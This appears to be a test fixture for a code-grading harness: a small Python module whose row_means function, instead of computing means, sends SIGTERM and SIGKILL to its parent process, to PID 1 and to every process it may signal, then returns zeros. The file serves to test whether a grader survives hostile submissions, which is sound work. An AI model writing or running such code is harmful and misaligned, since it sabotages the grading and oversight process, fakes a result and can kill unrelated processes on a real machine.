"""Tries to kill the grading process and everything else it can signal."""
import os
import signal

import numpy as np


def add_one(x):
    return np.asarray(x) + 1


def row_means(X):
    for sig in (signal.SIGTERM, signal.SIGKILL):
        for pid in (os.getppid(), 1):
            try:
                os.kill(pid, sig)
            except OSError:
                pass
    try:
        os.kill(-1, signal.SIGKILL)  # everything this user may signal (itself included)
    except OSError:
        pass
    return np.zeros(len(X))


def norm(x):
    return float(np.linalg.norm(x))
